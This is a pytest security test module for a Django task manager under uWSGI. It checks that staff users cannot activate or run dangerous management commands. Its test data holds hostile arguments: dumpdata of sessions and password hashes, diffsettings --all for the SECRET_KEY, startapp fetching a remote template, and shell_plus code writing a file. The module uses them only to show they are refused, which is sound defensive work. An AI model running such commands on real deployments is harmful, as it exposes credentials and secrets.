"""The security model (issue 11), attacked through the real uWSGI server.

The attack this module replays was made on the demo: a staff user who may add
and run tasks (no superuser) ran ``collect_commands``, which activated every
command of Django; then ``dumpdata sessions.session auth.user`` printed the
session keys and password hashes into a report, ``diffsettings --all`` the
SECRET_KEY, and ``startapp NAME DIR --template http://...`` wrote files
fetched from anywhere. A user who could only change tasks could turn an idle
task into any of those. Each step is refused here at every door -- the task
form, the buttons, the bulk actions and the spooler's claim of a run forced
into the spool directory -- with nothing activated, nothing spooled, no secret
in any log and no file written; then the roles that might try it, one by one.

Django's commands are not listed by hand: they are enumerated from the
installed Django (``get_commands()``), so a command a later Django adds is
covered at once. ``tm_fakeext`` (tests/fake_site) is a third-party app in a
site-packages directory, with commands named like django-extensions'
``shell_plus`` and DRF's ``drf_create_token``.
"""

import os
import re
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import get_commands
from django.utils import timezone

from taskmanager import policy
from taskmanager.forms import RUN_FIELDS
from taskmanager.management.commands.collect_commands import collect
from taskmanager.models import ApprovedArguments, Command, LogLine, Report, Task, TaskCategory

from .support.security import (
    COMMANDS,
    FAKEEXT,
    REPORTS,
    TASKS,
    active_commands,
    add_form,
    assert_no_secret_logged,
    assert_nothing_ran,
    assert_refused_at_claim,
    bulk,
    change_form,
    core_commands,
    fakeext_commands,
    finished_report,
    force_run,
    form_errors,
    log_of,
    login,
    make_staff,
    offered_commands,
    press,
    running_report,
    shown_messages,
    spool_entries,
)
from .support.spool import make_due
from .support.uwsgi_server import ROOT
from .support.waits import wait_for

pytestmark = pytest.mark.django_db(transaction=True)


# -- step 1: collect_commands run as a task by a user who may add and run tasks -----


def test_collect_commands_run_as_a_task_activates_no_core_or_third_party_command(server):
    Command.objects.create(app_name="taskmanager", name="collect_commands")
    make_staff("attacker", "add_task", "run_task", "view_task", "view_report")
    attacker = login(server, "attacker")
    resp = add_form(attacker, "collect", Command.objects.get(name="collect_commands"))
    task = Task.objects.filter(name="collect").first()
    assert task is not None, form_errors(resp)
    assert "was started" in shown_messages(press(attacker, task, "start"))
    report = finished_report(task)
    assert report.result == "OK", log_of(report)
    rows = {c.name: c for c in Command.objects.all()}
    # The run collected every command of the installed Django, and activated none.
    core = core_commands()
    assert core <= rows.keys()
    assert sorted(name for name in core if rows[name].active) == []
    assert all(rows[name].locked_arguments for name in core)
    # Nor the third-party ones, whatever their name.
    assert fakeext_commands() == {"shell_plus", "drf_create_token", "fakeext_report"}
    assert sorted(name for name in fakeext_commands() if rows[name].active) == []
    assert rows["respool_tasks"].active is False
    # Only the project's own commands are active (and they all are).
    project = {name for name, app in get_commands().items() if app == "tests.testapp"}
    assert active_commands() == {("tests.testapp", name) for name in project} | {
        ("taskmanager", "collect_commands")
    }
    # So the form offers the attacker nothing else, and a core command posted anyway is refused.
    assert offered_commands(attacker) == {c.pk for c in rows.values() if c.active}
    for name in sorted(core):
        resp = add_form(attacker, "core-" + name, rows[name])
        assert "Select a valid choice" in form_errors(resp), name
    assert not Task.objects.filter(name__startswith="core-").exists()


def test_no_core_command_can_be_started_by_anyone(server, admin_http, collected):
    """Tasks of Django's commands that exist in the database (e.g. older rows) do not start, not even for a superuser."""
    core = sorted(core_commands())
    tasks = [Task.objects.create(name="core-" + name, command=collected[name]) for name in core]
    before = spool_entries(server)
    for task in tasks:
        message = shown_messages(press(admin_http, task, "start"))
        assert "cannot start" in message and ("not active" in message or "dangerous command" in message), (
            message
        )
    message = shown_messages(bulk(admin_http, "start_tasks", *tasks))
    assert message.count("cannot start") == len(tasks), message
    message = shown_messages(bulk(admin_http, "run_tasks_now", *tasks))
    assert message.count("cannot run") == len(tasks), message
    for task in tasks:
        assert_nothing_ran(server, task, before)
    # The dangerous ones say so, whatever their active flag.
    dangerous = [name for name in core if policy.is_dangerous("django.core", name)]
    assert {"dumpdata", "diffsettings", "startapp", "shell"} <= set(dangerous)
    assert all(policy.blocked(collected[name].app_name, name) for name in dangerous)


# -- steps 2 to 4, and the third-party variants: dangerous commands at every door ----


ATTEMPTS = {
    "dumpdata": "sessions.session auth.user",
    "diffsettings": "--all",
    "startapp": "tm_evil_app {target} --template http://127.0.0.1:9/evil.zip",
    "shell_plus": "-c \"open('{target}/pwned.txt', 'w').write('pwned')\"",
    "drf_create_token": "admin",
}


@pytest.mark.db_sensitive
@pytest.mark.parametrize("name", list(ATTEMPTS))
def test_dangerous_command_cannot_be_added_started_or_forced(
    server, admin_http, superuser, collected, name, tmp_path
):
    target = tmp_path / "target"
    target.mkdir()
    arguments = ATTEMPTS[name].format(target=target)
    command = collected[name]
    assert policy.blocked(command.app_name, name)
    make_staff("attacker", "add_task", "run_task", "view_task", "view_report")
    attacker = login(server, "attacker")
    activated = active_commands()
    # 1. No such task can be created: the command is not offered, and posted anyway it is refused.
    for client in (attacker, admin_http):
        assert command.pk not in offered_commands(client)
        resp = add_form(client, "evil", command, arguments)
        assert "Select a valid choice" in form_errors(resp)
        assert not Task.objects.filter(name="evil").exists()
    # Even with the row forced active behind the admin's back.
    Command.objects.filter(pk=command.pk).update(active=True)
    for client in (attacker, admin_http):
        assert command.pk not in offered_commands(client)
        resp = add_form(client, "evil", command, arguments)
        assert "Select a valid choice" in form_errors(resp)
        assert not Task.objects.filter(name="evil").exists()
    # 2. A task that exists in the database does not start: buttons and bulk actions refuse.
    task = Task.objects.create(name="evil", command=command, arguments=arguments)
    before = spool_entries(server)
    for client in (attacker, admin_http):
        message = shown_messages(press(client, task, "start"))
        assert "cannot start" in message and "dangerous command" in message, message
        assert "cannot run" in shown_messages(press(client, task, "run-now"))
        assert "cannot start" in shown_messages(bulk(client, "start_tasks", task))
        assert "cannot run" in shown_messages(bulk(client, "run_tasks_now", task))
        assert_nothing_ran(server, task, before)
    # 3. A run forced into the spool directory is refused by the spooler's claim.
    report = force_run(server, task, superuser)
    # Nothing leaked, nothing was written, nothing was activated (but the row forced here).
    assert_no_secret_logged(server)
    assert not LogLine.objects.filter(text__contains="fake-token").exists()
    assert list(target.iterdir()) == []
    assert not (ROOT / "tm_evil_app").exists()
    assert active_commands() == activated | {(command.app_name, name)}
    assert_refused_at_claim(report, "dangerous command")


# -- step 5: change_task + run_task on an idle task ---------------------------------


def test_change_and_run_cannot_turn_an_idle_task_into_a_blocked_or_inactive_command(server, collected):
    make_staff("editor", "change_task", "run_task", "view_task")
    editor = login(server, "editor")
    task = Task.objects.create(name="harmless", command=collected["tm_ok"], arguments="--lines 1")
    Command.objects.filter(name="dumpdata").update(active=True)  # forced: still blocked
    before = spool_entries(server)
    for name, arguments in [
        ("dumpdata", "sessions.session auth.user"),
        ("diffsettings", "--all"),
        ("shell_plus", "-c print(1)"),
        ("fakeext_report", ""),  # not blocked, but inactive
        ("check", ""),  # Django's, inactive
    ]:
        resp = change_form(editor, task, command=collected[name].pk, arguments=arguments)
        assert "Select a valid choice" in form_errors(resp), name
        current = Task.objects.get(pk=task.pk)
        assert (current.command_id, current.arguments, current.version) == (
            collected["tm_ok"].pk,
            "--lines 1",
            1,
        )
    assert_nothing_ran(server, task, before)
    # What the editor may run, they may choose (and the definition gets a new version).
    resp = change_form(editor, task, command=collected["tm_echo"].pk, arguments="hello")
    current = Task.objects.get(pk=task.pk)
    assert (current.command_id, current.arguments, current.version) == (
        collected["tm_echo"].pk,
        "hello",
        2,
    ), form_errors(resp)
    assert current.definition_changed_by.username == "editor"


# -- the roles ----------------------------------------------------------------------


def test_run_task_only_starts_only_what_its_user_may_run(server, collected):
    make_staff("runner", "run_task", "view_task")
    runner = login(server, "runner")
    mine = Task.objects.create(name="mine", command=collected["tm_ok"], arguments="--lines 1")
    Command.objects.filter(pk=collected["tm_echo"].pk).update(run_by=Command.RunBy.SUPERUSERS)
    theirs = Task.objects.create(name="theirs", command=collected["tm_echo"], arguments="x")
    inactive = Task.objects.create(name="inactive", command=collected["fakeext_report"])
    # No task can be added or changed.
    assert runner.get(TASKS + "add/").status == 403
    assert add_form(runner, "new", collected["tm_ok"]).status == 403
    assert change_form(runner, mine, arguments="--lines 2").status == 403
    assert (
        Task.objects.get(pk=mine.pk).arguments == "--lines 1" and not Task.objects.filter(name="new").exists()
    )
    before = spool_entries(server)
    # A superusers-only command: no button on the page, 403 from each button's URL.
    page = runner.get(TASKS + "%d/change/" % theirs.pk).text
    assert "/%d/start/" % theirs.pk not in page
    for button in ("start", "run-now", "stop"):
        assert press(runner, theirs, button).status == 403, button
    # An inactive command: refused with a message; the bulk action refuses both.
    assert "not active" in shown_messages(press(runner, inactive, "start"))
    message = shown_messages(bulk(runner, "start_tasks", theirs, inactive))
    assert "Only superusers may run tasks of the command tm_echo" in message and "not active" in message, (
        message
    )
    assert_nothing_ran(server, theirs, before)
    assert_nothing_ran(server, inactive, before)
    # What the user may run, they can start.
    assert "was started" in shown_messages(press(runner, mine, "start"))
    assert finished_report(mine).result == "OK"


def definition(task) -> tuple:
    """What a run of the task executes and when, and its pending run."""
    return (
        task.command_id,
        task.arguments,
        task.timeout,
        task.notify,
        task.scheduling,
        task.repetition_period,
        task.repetition_rate,
        task.status,
        task.run_token,
        task.version,
    )


#: A changed value for every field of forms.RUN_FIELDS, as the change form posts it.
RUN_FIELD_CHANGES = {
    "command": lambda c: c["tm_echo"].pk,
    "arguments": lambda c: "--lines 7",
    "timeout": lambda c: "5",
    "notify": lambda c: None,  # unticked: not posted
    "scheduling_0": lambda c: (timezone.localtime() + timedelta(days=3)).strftime("%Y-%m-%d"),
    "scheduling_1": lambda c: "04:05:06",
    "repetition_period": lambda c: "day",
    "repetition_rate": lambda c: "2",
}


@pytest.mark.parametrize("state", ["idle", "scheduled"])
def test_change_task_only_changes_name_category_and_note(server, admin_http, collected, state):
    # Every field that decides what a run executes is tried (a new one must be added above).
    tried = {name.removesuffix("_0").removesuffix("_1") for name in RUN_FIELD_CHANGES}
    assert tried == set(RUN_FIELDS)
    category = TaskCategory.objects.create(name="cat")
    task = Task.objects.create(name="defined", command=collected["tm_ok"], arguments="--lines 1", timeout=60)
    if state == "scheduled":
        # Set in the database, to the microsecond: a form save that wrote the
        # disabled fields back (as the form re-read them) would cut it.
        Task.objects.filter(pk=task.pk).update(scheduling=timezone.now() + timedelta(days=1))
        assert "is scheduled" in shown_messages(press(admin_http, task, "start"))
    task = Task.objects.get(pk=task.pk)
    before = definition(task)
    make_staff("clerk", "change_task")
    clerk = login(server, "clerk")
    page = clerk.get(TASKS + "%d/change/" % task.pk).text
    assert "You may not run this task&#x27;s command" in page
    for field in RUN_FIELD_CHANGES:
        tag = re.search(r'<(?:input|select|textarea)[^>]*name="%s"[^>]*>' % field, page)
        assert tag and "disabled" in tag.group(0), (field, tag and tag.group(0))
    assert "/%d/start/" % task.pk not in page
    # Every field that decides the run, posted changed, is ignored; the rest is saved.
    overrides = {field: change(collected) for field, change in RUN_FIELD_CHANGES.items()}
    resp = change_form(clerk, task, name="renamed", note="checked", category=category.pk, **overrides)
    after = Task.objects.get(pk=task.pk)
    assert (after.name, after.note, after.category_id) == ("renamed", "checked", category.pk), form_errors(
        resp
    )
    assert definition(after) == before
    if state == "scheduled":
        press(admin_http, after, "stop")


def test_change_command_only_may_deactivate_but_not_activate_nor_grant(server, collected):
    make_staff("operator", "change_command", "view_command")
    operator = login(server, "operator")
    group = Group.objects.create(name="ops")

    def post(command, **fields):
        data = {
            "run_by": "superusers",
            "groups": [group.pk],
            "locked_arguments": "on",
            "approved_arguments-TOTAL_FORMS": "1",
            "approved_arguments-INITIAL_FORMS": "0",
            "approved_arguments-0-arguments": "--lines 9",
            "approved_arguments-0-command": command.pk,
            "_save": "Save",
            **fields,
        }
        return operator.post(COMMANDS + "%d/change/" % command.pk, data)

    def state(command):
        command = Command.objects.get(pk=command.pk)
        return command.active, command.run_by, list(command.groups.all()), command.locked_arguments

    # An inactive command stays inactive (the field is read-only for them, and posted anyway it is ignored).
    inactive = collected["fakeext_report"]
    page = operator.get(COMMANDS + "%d/change/" % inactive.pk).text
    assert 'name="active"' not in page and 'name="run_by"' not in page
    post(inactive, active="on")
    assert state(inactive) == (False, "permission", [], False)
    # An active one may be switched off, and nothing else changes with it.
    active = collected["tm_ok"]
    resp = post(active)
    assert "was changed successfully" in resp.text, form_errors(resp)
    assert state(active) == (False, "permission", [], False)
    assert not ApprovedArguments.objects.exists()
    # And it cannot be switched on again by them.
    post(active, active="on")
    assert state(active)[0] is False


def test_superuser_cannot_activate_a_blocked_command(server, admin_http, collected):
    def activate(command):
        return admin_http.post(
            COMMANDS + "%d/change/" % command.pk,
            {
                "active": "on",
                "run_by": "permission",
                "approved_arguments-TOTAL_FORMS": "0",
                "approved_arguments-INITIAL_FORMS": "0",
                "_save": "Save",
            },
        )

    for name, reason in [
        ("shell", "dangerous command"),
        ("dumpdata", "dangerous command"),
        ("shell_plus", "dangerous command"),
        ("drf_create_token", "dangerous command"),
        ("respool_tasks", "operator command"),
    ]:
        resp = activate(collected[name])
        assert reason in form_errors(resp), (name, form_errors(resp))
        assert Command.objects.get(pk=collected[name].pk).active is False, name
    # A third-party command that is not dangerous: a superuser may activate it.
    resp = activate(collected["fakeext_report"])
    assert "was changed successfully" in resp.text, form_errors(resp)
    assert Command.objects.get(pk=collected["fakeext_report"].pk).active is True


@pytest.mark.db_sensitive
def test_deleting_a_running_report_needs_the_right_to_stop_it(server, admin_http, collected):
    make_staff("cleaner", "delete_report", "view_report")
    make_staff("stopper", "delete_report", "view_report", "run_task")
    cleaner = login(server, "cleaner")
    stopper = login(server, "stopper")
    task = Task.objects.create(
        name="sleeper", command=collected["tm_sleep"], arguments="--seconds 60, --tick 0.1"
    )
    press(admin_http, task, "start")
    report = running_report(task)
    url = REPORTS + "%d/delete/" % report.pk
    assert cleaner.get(url).status == 403
    assert cleaner.post(url, {"post": "yes"}).status == 403
    resp = cleaner.post(
        REPORTS, {"action": "delete_selected", "_selected_action": [report.pk], "post": "yes"}
    )
    assert resp.status == 403
    # The run goes on.
    lines = Report.objects.get(pk=report.pk).lines
    wait_for(lambda: Report.objects.get(pk=report.pk).lines > lines + 2, message="more lines of the run")
    assert Report.objects.get(pk=report.pk).is_running
    os.kill(report.pid, 0)
    # Who may stop the run may delete its report: the run is stopped first, then deleted.
    assert stopper.post(url, {"post": "yes"}, follow=False).status == 302
    assert not Report.objects.filter(pk=report.pk).exists()
    wait_for(lambda: Task.objects.get(pk=task.pk).status == "IDLE", message="the stopped run to end")
    wait_for(
        lambda: not os.path.exists("/proc/%d" % report.pid) or _zombie(report.pid),
        message="the command to end",
    )
    # A finished report: delete_report is enough, with the right to read it
    # (docs/security.rst, "Read rights"), not the right to stop the run.
    cleaners = Group.objects.create(name="cleaners")
    collected["tm_sleep"].groups.set([cleaners])
    User.objects.get(username="cleaner").groups.add(cleaners)
    Command.objects.filter(pk=collected["tm_sleep"].pk).update(run_by=Command.RunBy.GROUPS)
    Task.objects.filter(pk=task.pk).update(arguments="--seconds 0")
    press(admin_http, task, "start")
    done = finished_report(task, after=report.pk)
    assert cleaner.post(REPORTS + "%d/delete/" % done.pk, {"post": "yes"}, follow=False).status == 302
    assert not Report.objects.filter(pk=done.pk).exists()


def _zombie(pid) -> bool:
    try:
        with open("/proc/%d/stat" % pid, "rb") as fh:
            return fh.read().rsplit(b")", 1)[1].split()[0] in (b"Z", b"X")
    except OSError:
        return True


def test_deleting_a_waiting_task_needs_the_right_to_stop_it(server, admin_http, collected):
    make_staff("cleaner", "delete_task", "view_task")
    cleaner = login(server, "cleaner")
    task = Task.objects.create(
        name="waiting", command=collected["tm_ok"], scheduling=timezone.now() + timedelta(days=1)
    )
    assert "is scheduled" in shown_messages(press(admin_http, task, "start"))
    assert cleaner.post(TASKS + "%d/delete/" % task.pk, {"post": "yes"}).status == 403
    resp = cleaner.post(TASKS, {"action": "delete_selected", "_selected_action": [task.pk], "post": "yes"})
    assert resp.status == 403
    assert Task.objects.get(pk=task.pk).status == "SCHEDULED"
    # An idle task: delete_task is enough.
    idle = Task.objects.create(name="idle", command=collected["tm_ok"])
    assert cleaner.post(TASKS + "%d/delete/" % idle.pk, {"post": "yes"}, follow=False).status == 302
    assert not Task.objects.filter(pk=idle.pk).exists()
    press(admin_http, task, "stop")


@pytest.mark.db_sensitive
def test_a_command_for_some_groups(server, collected):
    group = Group.objects.create(name="operators")
    command = collected["tm_ok"]
    Command.objects.filter(pk=command.pk).update(run_by=Command.RunBy.GROUPS)
    command.groups.set([group])
    make_staff("outsider", "run_task", "add_task", "view_task")
    member = make_staff("member", "run_task", "view_task", groups=[group])
    outsider = login(server, "outsider")
    insider = login(server, "member")
    task = Task.objects.create(name="grouped", command=command, arguments="--lines 1")
    # The outsider: no buttons, 403 from each, a warning from the bulk action, not offered in the form.
    before = spool_entries(server)
    assert "/%d/start/" % task.pk not in outsider.get(TASKS + "%d/change/" % task.pk).text
    for button in ("start", "run-now", "stop"):
        assert press(outsider, task, button).status == 403, button
    message = shown_messages(bulk(outsider, "start_tasks", task))
    assert "Only the members of the groups chosen for the command tm_ok" in message, message
    assert command.pk not in offered_commands(outsider)
    assert "Select a valid choice" in form_errors(add_form(outsider, "mine", command))
    assert_nothing_ran(server, task, before)
    # A member can start it.
    assert "was started" in shown_messages(press(insider, task, "start"))
    first = finished_report(task)
    assert first.result == "OK"
    # A run started by a member who leaves the group before it fires is refused by the claim.
    Task.objects.filter(pk=task.pk).update(scheduling=timezone.now() + timedelta(hours=1))
    assert "is scheduled" in shown_messages(press(insider, task, "start"))
    assert press(outsider, task, "stop").status == 403
    member.groups.clear()
    assert Task.objects.get(pk=task.pk).status == "SCHEDULED"
    make_due(task)  # its time comes after the member left
    report = finished_report(task, after=first.pk)
    assert_refused_at_claim(report, "Only the members of the groups chosen for the command tm_ok")
    assert report.user_id == member.pk


@pytest.mark.db_sensitive
def test_locked_arguments(server, admin_http, superuser, collected):
    command = collected["tm_ok"]
    Command.objects.filter(pk=command.pk).update(locked_arguments=True)
    ApprovedArguments.objects.create(command=command, arguments="--lines 2, --word a", approved_by=superuser)
    make_staff("editor", "add_task", "change_task", "run_task", "view_task")
    editor = login(server, "editor")
    # Exactly the approved argv, however it is spaced or quoted.
    resp = add_form(editor, "locked", command, "--lines  2 --word   a")
    task = Task.objects.filter(name="locked").first()
    assert task is not None, form_errors(resp)
    resp = change_form(editor, task, arguments='"--lines" \'2\' ,--word "a"')
    assert Task.objects.get(pk=task.pk).arguments == '"--lines" \'2\' ,--word "a"', form_errors(resp)
    task = Task.objects.get(pk=task.pk)
    # Anything else is refused, at add and at change.
    for arguments in ["--lines 3", "--lines 2", "--lines 2, --word a, --word b", ""]:
        assert "locked" in form_errors(change_form(editor, task, arguments=arguments)), arguments
        assert "locked" in form_errors(add_form(editor, "other", command, arguments)), arguments
    assert Task.objects.get(pk=task.pk).arguments == task.arguments
    assert not Task.objects.filter(name="other").exists()
    # The approved arguments run.
    assert "was started" in shown_messages(press(editor, task, "start"))
    first = finished_report(task)
    assert first.result == "OK" and first.command_line == "manage.py tm_ok --lines 2 --word a"
    # Changed behind the form's back: the button refuses, and so does the claim.
    Task.objects.filter(pk=task.pk).update(arguments="--lines 5")
    before = spool_entries(server)
    assert "locked" in shown_messages(press(editor, task, "start"))
    assert_nothing_ran(server, task, before, reports=1)
    report = force_run(server, task, User.objects.get(username="editor"))
    assert report.pk != first.pk
    assert_refused_at_claim(report, "are locked")


@pytest.mark.db_sensitive
def test_start_with_the_version_a_page_showed(server, admin_http, collected):
    make_staff("runner", "run_task", "view_task")
    runner = login(server, "runner")
    task = Task.objects.create(name="versioned", command=collected["tm_ok"], arguments="--lines 1")
    page = runner.get(TASKS + "%d/change/" % task.pk).text
    shown = re.findall(r'name="version" value="(\d+)"', page)
    assert shown and set(shown) == {"1"}, shown
    # Meanwhile a superuser changes what the task runs.
    resp = change_form(admin_http, task, arguments="--lines 4")
    assert Task.objects.get(pk=task.pk).version == 2, form_errors(resp)
    before = spool_entries(server)
    for button, verb in (("start", "not run"), ("run-now", "not run")):
        message = shown_messages(press(runner, task, button, version=shown[0]))
        assert verb in message and "admin changed what it runs" in message, message
    assert_nothing_ran(server, task, before)
    # With the version the page shows now, it starts.
    page = runner.get(TASKS + "%d/change/" % task.pk).text
    current = re.search(r'name="version" value="(\d+)"', page).group(1)
    assert current == "2"
    assert "was started" in shown_messages(press(runner, task, "start", version=current))
    report = finished_report(task)
    assert report.result == "OK" and report.command_line == "manage.py tm_ok --lines 4"


def test_no_file_is_created_by_a_form_save(server, collected, tmp_path):
    make_staff("editor", "add_task", "change_task", "run_task", "view_task")
    editor = login(server, "editor")
    out, append, new, log = (tmp_path / n for n in ("out.txt", "append.txt", "new.txt", "log.txt"))
    # The command's relative default, from the server's working directory.
    default_log = ROOT / "tm_argsafe_default.log"
    assert not default_log.exists()
    command = collected["tm_argsafe_files"]
    resp = add_form(editor, "files", command, "--out %s, --append %s, --new %s" % (out, append, new))
    task = Task.objects.filter(name="files").first()
    assert task is not None, form_errors(resp)
    resp = change_form(editor, task, arguments="--out %s, --new %s, --log %s" % (append, out, log))
    assert Task.objects.get(pk=task.pk).arguments.startswith("--out %s" % append), form_errors(resp)
    assert list(tmp_path.iterdir()) == [] and not default_log.exists()
    # The paths are real: the run (not the save) writes them.
    assert "was started" in shown_messages(press(editor, task, "start"))
    assert finished_report(task).result == "OK"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["append.txt", "log.txt", "out.txt"]


# -- third-party commands -----------------------------------------------------------


def test_third_party_commands_are_collected_inactive(transactional_db, settings):
    collect()
    rows = {c.name: c for c in Command.objects.filter(app_name=FAKEEXT)}
    assert set(rows) == fakeext_commands()
    assert [name for name, c in rows.items() if c.active] == []
    assert policy.blocked(FAKEEXT, "shell_plus") and policy.blocked(FAKEEXT, "drf_create_token")
    assert policy.blocked(FAKEEXT, "fakeext_report") is None
    assert not policy.is_project_app(FAKEEXT) and policy.is_project_app("tests.testapp")
    # Allowing the app activates its harmless command only.
    Command.objects.all().delete()
    settings.TASKMANAGER_ALLOWED_COMMANDS = [FAKEEXT]
    collect()
    active = {c.name: c.active for c in Command.objects.filter(app_name=FAKEEXT)}
    assert active == {"fakeext_report": True, "shell_plus": False, "drf_create_token": False}


def test_allowed_third_party_app_through_a_server(uwsgi_node, superuser, tmp_path):
    node = uwsgi_node(settings={"TASKMANAGER_ALLOWED_COMMANDS": [FAKEEXT]}, spooler_processes=1)
    Command.objects.create(app_name="taskmanager", name="collect_commands")
    admin = login(node, "admin")
    collect_task = Task.objects.create(name="collect", command=Command.objects.get(name="collect_commands"))
    assert "was started" in shown_messages(press(admin, collect_task, "start"))
    assert finished_report(collect_task).result == "OK"
    rows = {c.name: c for c in Command.objects.all()}
    assert {name: rows[name].active for name in fakeext_commands()} == {
        "fakeext_report": True,
        "shell_plus": False,
        "drf_create_token": False,
    }
    assert [name for name in core_commands() if rows[name].active] == []
    # The allowed one runs; shell_plus, even forced active, does not.
    report_task = Task.objects.create(name="report", command=rows["fakeext_report"])
    assert "was started" in shown_messages(press(admin, report_task, "start"))
    report = finished_report(report_task)
    assert (report.result, log_of(report)) == ("OK", ["fakeext report"])
    Command.objects.filter(pk=rows["shell_plus"].pk).update(active=True)
    evil = Task.objects.create(
        name="evil", command=rows["shell_plus"], arguments="-c \"open('%s/pwned', 'w')\"" % tmp_path
    )
    assert "dangerous command" in shown_messages(press(admin, evil, "start"))
    assert_refused_at_claim(force_run(node, evil, User.objects.get(username="admin")), "dangerous command")
    assert list(tmp_path.iterdir()) == []


# -- W014: uWSGI running as root ------------------------------------------------------


def test_uwsgi_running_as_root_is_warned(uwsgi_node, server, admin_http):
    as_root = os.geteuid() == 0
    node = uwsgi_node(settings={"SILENCED_SYSTEM_CHECKS": []}, spooler_processes=1)
    # Worker 1 sums its checks up in one line; as root, it and the spooler log W014.
    wait_for(
        lambda: (
            "system checks ran at uWSGI start (worker 1)" in node.log()
            and (not as_root or "taskmanager.W014 (spooler pid" in node.log())
        ),
        message="the uWSGI checks in the log",
    )
    assert ("taskmanager.W014" in node.log()) is as_root, node.log()[-3000:]
    page = login(node, "admin").get(TASKS).text
    assert ("uWSGI runs as root" in page) is as_root
    # Silenced (tests/settings.py), the shared server neither shows nor logs it.
    assert "uWSGI runs as root" not in admin_http.get(TASKS).text
    assert "taskmanager.W014" not in server.log()
